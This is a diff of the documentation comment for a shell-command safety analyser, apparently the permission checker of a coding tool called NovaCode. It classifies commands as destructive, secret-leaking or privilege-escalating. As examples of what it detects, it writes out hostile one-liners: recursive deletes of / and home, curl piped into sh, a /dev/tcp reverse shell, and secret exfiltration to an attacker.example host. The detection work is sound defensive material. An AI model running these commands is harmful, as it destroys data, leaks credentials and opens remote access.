@@ -26,13 +26,35 @@
 //     env, xargs and find -exec (so that a deny rule for rm also catches
 //     `sudo rm`). declare/export/local/readonly and let are commands too;
 //     [[ ]] and (( )) are not.
-//   - Writes: the files that redirections (>, >>, &>, &>>, >|, <>, >&file),
-//     tee and sed -i write; not descriptor duplications or /dev/null,
-//     /dev/stdout, /dev/stderr, /dev/tty.
+//   - Writes: the files the line certainly writes, creates, deletes or
+//     changes: redirections (>, >>, &>, &>>, >|, <>, >&file; not descriptor
+//     duplications or /dev/null, /dev/stdout, /dev/stderr, /dev/tty) and
+//     the targets of every known writer — dd of=; cp, mv, ln and install
+//     targets (and mv's sources); rm, rmdir, unlink, shred, truncate, touch,
+//     mkdir, mkfifo, chmod, chown operands; tee; sed -i, perl -i, ruby -i,
+//     awk -i inplace (with their backups); curl -o/-O/--output-dir/-D/-c,
+//     wget -O/-P or the name it downloads to; tar -cf (and -x's directory),
+//     zip, unzip -d, gzip and its kind; sort -o, uniq IN OUT, xxd IN OUT,
+//     shuf -o, iconv -o, split and csplit (their prefix); go build -o, go
+//     test -o/-c and its profiles, gcc/cc/ld/as -o (or a.out, x.o),
+//     objcopy, strip, ar; git archive -o, format-patch (-o), bundle create,
+//     checkout-index --prefix, --output; ssh-keygen's key files, openssl
+//     -out, gpg -o; gofmt -w and other formatters; find -fprint; strace -o,
+//     time -o, script. A program writes nothing only if its description
+//     says it only reads with the options given. What only the program
+//     knows (a glob's matches, a prefix's pieces, what tar -x or find
+//     -delete touches) is a Dynamic write. An unknown program's operands
+//     and option paths are possible writes (Effects.MayWrite), as are those
+//     of any command whose effects cannot be bounded (patch, git apply,
+//     make, a script).
 //   - Unsafe: reasons the command cannot be judged by per-command rules. The
 //     chain asks, except in bypassPermissions mode.
-//   - Dangerous: reasons from a fixed list of destructive or persistent
-//     actions. The chain asks even in bypassPermissions mode.
+//   - Dangerous: reasons the command can destroy, leak or escalate (see
+//     Dangerous categories). The chain asks even in bypassPermissions mode.
+//   - Effects: what the line reads and writes (absolute paths), why that
+//     cannot be bounded, what unbounded commands may read or write
+//     (MayRead, MayWrite), words only known at run time (Unnamed), the
+//     environment variables it reads (Env); ReadOnly.
 //   - ProjectCode: commands that run code the workspace defines (npm test,
 //     make, go test, cargo build, pytest, ./script, python x.py). Not a
 //     reason to ask by itself: allowing `npm test` is reasonable, but that
@@ -46,10 +68,13 @@
 // leading ~ or ~/ becomes Options.Home. Anything else — $VAR, ${…}, $(…),
 // `…`, $((…)), <(…), an unquoted glob or brace pattern, ~user, $"…" — is
 // Dynamic and reported as its source text. Internally the analyser still
-// resolves what it can ($HOME, $PWD, $(pwd), variables the line set to fixed
-// strings, loop variables over fixed words, word splitting of known values)
-// for its own checks, and treats an unknown variable as possibly empty:
-// rm -rf "$DIR"/* is rm -rf /* when DIR is unset.
+// resolves what it can ($HOME, $PWD, ~+, $(pwd), $OLDPWD and ~- after a cd
+// of the line, variables the line set to fixed strings, loop variables over
+// fixed words, word splitting of known values, and a substitution that only
+// prints fixed text: $(echo rm) and $(printf '\x72m') are rm) for its own
+// checks, and treats an unknown variable as possibly empty: rm -rf
+// "$DIR"/* is rm -rf /* when DIR is unset. ~- and $OLDPWD from outside the
+// line are a directory it cannot tell, never empty.
 //
 // The working directory is followed through cd and pushd: after
 // `cd x && …` relative paths are judged in x; after `cd x; …` (the cd may
@@ -140,7 +165,15 @@
 //     scp -S, rsync -e/--rsh/--rsync-path, go -exec/-toolexec/-vettool,
 //     go env -w/-u, make NAME=value and --eval, cargo --config, npm/yarn/pnpm
 //     config set and --script-shell, npx -c, npm exec -c, pip config set,
-//     wget -e/--execute, curl -K/--config, install --strip-program.
+//     wget -e/--execute, curl -K/--config, install --strip-program, split
+//     --filter, gcc -wrapper/-B/-specs/plugins and @file, ld plugins,
+//     openssl -engine/-provider, nc -e/-c, socat EXEC:/SYSTEM:, sqlite3
+//     .shell/.system/.load, unzip (it extracts what the archive names).
+//   - A glob operand of a program with such options (sort *, rg … *): a
+//     file named like an option (--compress-program=sh) would be one.
+//   - An option a program's table does not list is not Unsafe (a rule for
+//     a program covers its options) but leaves the line's effects
+//     unbounded: a later version's option may write.
 //   - Paths outside the workspace in fixed arguments (also in --opt=value,
 //     -o/path and @file forms) of every program that may touch files (not
 //     echo, printf, test and the like), in redirections, and as write
@@ -150,53 +183,150 @@
 //     .mcp.json, .envrc, .gitmodules, .gitattributes; /dev/tcp and /dev/udp
 //     (network connections).
 //
-// # Dangerous rules
+// # Dangerous categories
+//
+// Every Dangerous reason starts with its category and a colon: what the
+// command puts at stake.
+//
+// destroys: removes or overwrites what cannot be rebuilt.
 //
 //   - Recursive or forced deletes (rm -r/-R/--recursive/-f in any spelling
 //     or order, also under sudo, in sh -c, with options from variables) of /,
-//     a top-level directory, the home directory, the workspace, any
-//     ancestor of them, or their contents (/*, ~/*, ./*, .*; any glob under
-//     /, ~ or an ancestor). rm of start-up, history and key files. The same
-//     targets for chmod/chown/chgrp -R (and chmod of / itself), find -delete
-//     or find -exec rm (and find . -delete with no test), rsync --delete,
-//     mv, shred.
-//   - mkfs*, mke2fs, mkswap, wipefs -a, blkdiscard, partition editors other
-//     than their listing forms, cryptsetup luksFormat/erase, zfs/zpool
-//     destroy, lvremove/vgremove/pvremove; dd of= a disk; any write to a disk
-//     or memory device (/dev/sd*, /dev/nvme*, /dev/mapper/*, /dev/mem, …).
-//   - Fork bombs: a function that calls itself in a pipeline or in the
-//     background, whatever its name.
-//   - Writes (redirections, tee, cp/mv/install/ln targets, sed -i, sed w,
-//     curl -o, wget -O, dd of=, git --output, sort -o, truncate, shred) to
-//     shell start-up and tool configuration files in any home directory
-//     (.bashrc, .profile, .zshrc, .gitconfig, .npmrc, .netrc, .mcp.json, …),
-//     history files, ~/.ssh, ~/.gnupg, ~/.config/{fish,git,systemd,autostart,
-//     gh,…}, ~/.aws, ~/.kube, ~/.docker, LaunchAgents, NovaCode's own
-//     settings (.novacode anywhere), and system trees (/etc, /usr, /boot,
-//     /bin, /sbin, /lib*, /root, cron spools, /System, /Library).
-//   - A download piped into an interpreter reading standard input
-//     (curl/wget/fetch/… | … sh/bash/python/…, also through sudo or env), a
-//     shell or interpreter running a substitution that downloads
-//     (bash <(curl …), sh -c "$(curl …)", source <(…), eval "$(curl …)",
-//     python -c "$(curl …)"), and running a file the same line downloaded
-//     (curl -o x.sh …; sh x.sh; wget …/i.sh && ./i.sh).
-//   - shutdown, reboot, halt, poweroff, kexec, killall5, init/telinit 0/6/1,
-//     systemctl/loginctl poweroff/reboot/halt/suspend/… and session kills;
-//     kill with pid -1 (kill -9 -1, kill -- -1); pkill/killall -u with no
-//     pattern.
-//   - crontab other than -l (installing or removing scheduled commands),
-//     history -c/-d, git clean -f without -n.
-//   - docker/podman run, create or exec with --privileged, host namespaces
-//     (--pid=host, …), --cap-add=ALL/SYS_ADMIN/…, unconfined security
-//     options, a disk device, or a bind mount of /, a top-level system
-//     directory, the home directory or an ancestor, a protected path or the
-//     Docker socket.
+//     a top-level directory, the home directory, the workspace (also as
+//     ~+, "$PWD", $(pwd)), any ancestor of them, the previous directory
+//     (~-, $OLDPWD), or their contents (/*, ~/*, ./*, .*; any glob under /,
+//     ~ or an ancestor). The same targets for chmod/chown/chgrp -R (and
+//     chmod of / itself), find -delete or find -exec rm (and find . -delete
+//     with no test), rsync --delete, mv, shred. Deleting start-up, history
+//     and key files.
+//   - The repository and its history: rm -r or mv of .git (or its objects,
+//     refs, logs); git reset --hard, git checkout -f or of the whole tree
+//     (git checkout -- .), git restore of the whole tree, git switch
+//     --discard-changes, git clean without -n (whether or not -f or
+//     clean.requireForce=false make it run), git reflog expire/delete, git
+//     gc --prune=now, git prune, git update-ref -d, git filter-branch and
+//     filter-repo, git push --force/-f/--force-with-lease/--mirror/--delete
+//     or a +refspec or :refspec, git branch -D (or -d/-f forced, -f moving a
+//     branch), git stash clear/drop.
+//   - Disks and the running system: mkfs* on a device (not an image file),
+//     mke2fs, mkswap, wipefs -a, blkdiscard, partition editors other than
+//     their listing forms, cryptsetup luksFormat/erase, zfs/zpool destroy,
+//     lvremove/vgremove/pvremove; dd of= a disk; any write to a disk or
+//     memory device; shutdown, reboot, halt, poweroff, kexec, killall5,
+//     init/telinit 0/6/1, systemctl/loginctl poweroff/reboot/… and session
+//     kills, isolate; kill with pid -1; pkill/killall -u with no pattern;
+//     fork bombs (a function that calls itself in a pipeline or in the
+//     background); crontab -r; history -c/-d.
+//   - Inline code (python -c, node -e, perl -e, ruby -e, php -r, lua -e,
+//     deno eval, bun -e, a here-document or piped text an interpreter runs)
+//     that deletes files: os.remove, shutil.rmtree, fs.rmSync, unlink,
+//     FileUtils.rm_rf, ….
+//
+// leaks: sends secrets off the machine. Secrets are named lexically: .env
+// files (not .env.example), SSH keys, *.pem and *.key, credentials under
+// the home directory (~/.ssh, ~/.aws, ~/.gnupg, ~/.netrc, ~/.npmrc,
+// ~/.docker/config.json, ~/.kube, …), /etc/shadow, a process's environ;
+// and what prints the environment (env, printenv, set, export -p, echo
+// $TOKEN) or a stored credential (gh auth token, gpg
+// --export-secret-keys, …).
+//
+//   - A secret uploaded by a network client: curl -d/--data-binary/--json
+//     @file, -F name=@file or name=<file, --data-urlencode name@file, -T
+//     file; wget --post-file/--body-file; scp or rsync of a secret to a
+//     remote host; socat OPEN:file TCP:….
+//   - A secret piped (through any filters) into a client that sends its
+//     input: cat .env | curl --data-binary @- …, env | nc host, echo
+//     $TOKEN | ssh host …; redirected into one (nc host < .env); printed
+//     into a socket (cat .env > /dev/tcp/host/80); or read by a
+//     substitution in a network client's words (curl -d "$(cat .env)" …,
+//     nslookup "$(cat key | base64).attacker.example").
+//   - Inline code that reaches the network (urllib, requests, socket,
+//     fetch, http, LWP, Net::HTTP, fsockopen, …): it can send any file.
+//
+// escalates: gains reach the session should not have.
+//
+//   - Privileges: sudo, doas, su, pkexec, run0, runuser (not their listing
+//     forms); chmod setting the setuid or setgid bit (u+s, g+s, +s, 4755,
+//     2755), install -m 4755, setcap; docker/podman run, create or exec
+//     with --privileged, host namespaces, dangerous capabilities, an
+//     unconfined security profile, a disk device, or a mount of /, a
+//     top-level system directory, the home directory or an ancestor, a
+//     protected path or the Docker socket.
+//   - Persistence, code that runs later: writes (redirections, tee, cp, mv,
+//     install, ln, sed -i, curl -o, wget -O, dd of=, sort -o, git --output,
+//     …) to shell start-up and tool configuration files in any home
+//     directory (.bashrc, .profile, .zshrc, .gitconfig, .npmrc, .netrc,
+//     .mcp.json, …), ~/.ssh, ~/.gnupg, ~/.config/{fish,git,systemd,
+//     autostart,gh,…}, ~/.aws, ~/.kube, ~/.docker, LaunchAgents,
+//     NovaCode's own settings (.novacode anywhere), system trees (/etc,
+//     /usr, /boot, /bin, /sbin, /lib*, /root, cron spools, /System,
+//     /Library); writes to git hooks and git's configuration
+//     (.git/hooks/*, .git/config), .mcp.json and .envrc in the workspace,
+//     chmod +x of a hook; crontab (installing), at and batch; systemctl
+//     enable/link/edit, loginctl enable-linger, launchctl load/bootstrap,
+//     update-rc.d, chkconfig, rc-update; ssh-keygen writing the default key
+//     or host keys; git config --global/--system (or --file ~/.gitconfig),
+//     and git config of a key that names a program or code (core.pager,
+//     core.editor, core.fsmonitor, core.sshCommand, core.hooksPath,
+//     alias.*, credential.helper, diff.*.textconv, filter.*.clean, …,
+//     include.path) — whose command, when given, is analysed as a script
+//     too (git -c core.pager='rm -rf ~' log destroys).
+//   - Another host running commands here: a shell or interpreter connected
+//     to the network — nc/ncat -e/-c/--exec/--sh-exec, socat with EXEC: or
+//     SYSTEM: and a network address, a shell redirected to or from
+//     /dev/tcp or /dev/udp (bash -i >& /dev/tcp/h/p 0>&1, exec
+//     3<>/dev/tcp/…), a shell or interpreter in a pipeline with a network
+//     client (mkfifo … | sh -i | nc h p), inline code using sockets and
+//     running programs.
+//   - Code hidden from review: a download piped into a shell or
+//     interpreter (curl/wget/fetch/nc/… | … sh/bash/python/…, also through
+//     sudo or env); a shell, interpreter or eval running a substitution
+//     that downloads or decodes (bash <(curl …), sh -c "$(curl …)", eval
+//     "$(… | base64 -d)"); running a file the line downloaded (curl -o
+//     x.sh …; sh x.sh; wget …/i.sh && ./i.sh) or code in a repository it
+//     cloned (git clone … && cd r && ./install.sh, make); decoded text
+//     piped into a shell or interpreter (… | base64 -d | sh, xxd -r, gunzip,
+//     rev, tr; when the text is literal the analyser also decodes it and
+//     analyses the script); a command name, a sh -c script, eval'd code or
+//     inline code only known at run time ($X args, $(cmd) args, "$CMD",
+//     python -c "$CODE"; not a program named by a fixed last component
+//     such as $(go env GOPATH)/bin/golangci-lint, not eval of shell set-up
+//     output such as $(ssh-agent -s)); inline code that runs programs or
+//     code built at run time (os.system, subprocess, child_process, eval,
+//     exec, backticks, …).
 //
 // Look-alikes are not Dangerous: text that mentions a dangerous command
-// (echo "rm -rf /", grep -r mkfs, git commit -m '… curl | sh …'), reading
+// (echo rm -rf /, grep -r mkfs, git commit -m '… curl | sh …'), reading
 // protected files (cat ~/.bashrc, ls /etc), scoped deletes and mode changes
-// (rm -rf ./build, chmod -R 755 ./scripts), dd to a file, curl -o to a file,
-// git clean -n.
+// (rm -rf ./build, chmod -R 755 ./scripts, chmod +x ./script.sh), dd to a
+// file, mkfs.ext4 -F ./disk.img, curl -o to a file, uploads of plain files
+// (curl -d @data.json), a token used with its API (curl -H "… $TOKEN"),
+// git push, git reset --soft, git clean -n, git checkout of a branch or a
+// file, git restore --staged, inline code that only computes and prints
+// (python3 -c 'print(1)'), sudo -l, eval "$(ssh-agent -s)".
+//
+// # Layout
+//
+// One description per program drives its Unsafe reasons, Writes, Dangerous
+// reasons and Effects alike (program.go): a program that only takes
+// options and operands is an option table (table.go) — for each option its
+// spellings, whether it takes a value, and what the value is (text, a file
+// read, written, deleted or changed, a program run, settings that can name
+// programs, a list of files) or what the option does (recurse, follow
+// links, rewrite in place, widen the reach); for the operands, what each
+// is. A check function adds what a table cannot say (grep's pattern, rm's
+// dangerous targets); a program with a language of its own (git, find, sed,
+// a shell) has a handler instead. The families live in their own files
+// (readers.go, listers.go, search.go, files.go, copy.go, remove.go,
+// modes.go, archivers.go, network.go, netcat.go, remote.go, build.go,
+// compilers.go, formatters.go, keys.go, git.go, gitdanger.go, sed.go,
+// awk.go, jq.go, find.go, shells.go, interpreters.go, inline.go,
+// wrappers.go, privilege.go, builtins.go, pure.go, system.go, disks.go,
+// containers.go, editors.go); what crosses commands (pipelines,
+// redirections, substitutions) is in flows.go, the categories in
+// danger.go, secrets in secrets.go. Adding a command is adding its
+// description to its family's file and its cases to
+// testdata/cases/<family>.json.
 //
 // # Limits
 //
